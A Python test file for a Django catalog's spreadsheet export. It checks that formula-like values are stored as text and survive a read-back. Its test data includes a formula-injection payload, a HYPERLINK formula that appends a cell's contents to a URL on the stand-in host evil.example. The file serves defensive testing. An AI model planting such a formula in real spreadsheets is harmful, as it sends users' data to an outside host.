"""The catalog workbook writes formula-like texts as text, and reading it back gives the same text."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from catalog.spreadsheet import read_catalog, write_catalog
from tests.catalog.factories import CatalogItemFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B4,"详情")'


def test_formula_like_cells_are_text_and_survive_a_round_trip():
    item = CatalogItemFactory.build(first_level=HYPERLINK, second_level="-临时救助", content_elements="@申请条件")
    data = write_catalog("=1+1 标题", [item])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A1"].value == "=1+1 标题" and sheet["A1"].data_type == "s"
    assert sheet["B4"].value == HYPERLINK and sheet["B4"].data_type == "s" and sheet["B4"].quotePrefix
    row = read_catalog(data).rows[0]
    assert (row["first_level"], row["second_level"], row["content_elements"]) == (HYPERLINK, "-临时救助", "@申请条件")
